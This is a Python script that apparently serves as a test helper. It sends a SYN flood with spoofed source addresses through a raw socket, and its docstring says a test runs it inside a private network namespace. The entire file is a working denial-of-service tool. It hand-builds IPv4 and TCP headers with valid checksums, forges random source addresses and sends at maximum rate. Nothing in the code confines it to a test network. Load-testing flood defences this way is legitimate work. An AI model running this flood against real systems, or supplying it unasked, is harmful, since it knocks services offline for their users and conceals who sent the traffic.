#!/usr/bin/env python3
"""A SYN flood from spoofed sources, sent through a raw socket inside a test namespace.

Usage: syn_flood.py DST PORT --src-net A.B.C.D/PREFIX --seed S [--max N]

Sends TCP SYNs to DST:PORT, each from a random address in --src-net (addresses nobody in the
namespace owns, so the SYN-ACKs go nowhere, as in a real spoofed flood), a random source port and
a random ISN, as fast as Python can, until stdin reaches end of file or N SYNs have gone out.
Prints "flooding" once the first SYNs are out, then, at the end, one JSON line:
{"sent": N, "seconds": T}.

Network safety: the test runs this with `ip netns exec` in a namespace it created; DST is an
address inside that namespace.
"""
import ipaddress
import json
import random
import socket
import struct
import sys
import threading
import time


def checksum_fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def words(data):
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def main():
    args = sys.argv[1:]
    dst, port = args[0], int(args[1])
    opts = dict(zip(args[2::2], args[3::2]))
    net = ipaddress.ip_network(opts["--src-net"])
    rng = random.Random(int(opts.get("--seed", "1")))
    limit = int(opts.get("--max", "100000000"))

    stop = threading.Event()

    def watch_stdin():
        sys.stdin.buffer.read()
        stop.set()

    threading.Thread(target=watch_stdin, daemon=True).start()

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst_bytes = socket.inet_aton(dst)
    base = int(net.network_address)
    span = net.num_addresses - 2
    # TCP header with an MSS option (1460); checksum computed per packet.
    options = struct.pack("!BBH", 2, 4, 1460)
    sent = 0
    started = time.monotonic()
    while sent < limit and not stop.is_set():
        src = struct.pack("!I", base + 1 + rng.randrange(span))
        sport = rng.randrange(1024, 65536)
        seq = rng.getrandbits(32)
        tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + options
        pseudo = src + dst_bytes + struct.pack("!BBH", 0, 6, len(tcp))
        csum = 0xFFFF - checksum_fold(words(pseudo) + words(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
        # The kernel fills in the IPv4 checksum and ID for IP_HDRINCL sockets.
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, src, dst_bytes)
        sock.sendto(ip + tcp, (dst, 0))
        sent += 1
        if sent == 1000:
            print("flooding", flush=True)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 3)}), flush=True)


if __name__ == "__main__":
    main()
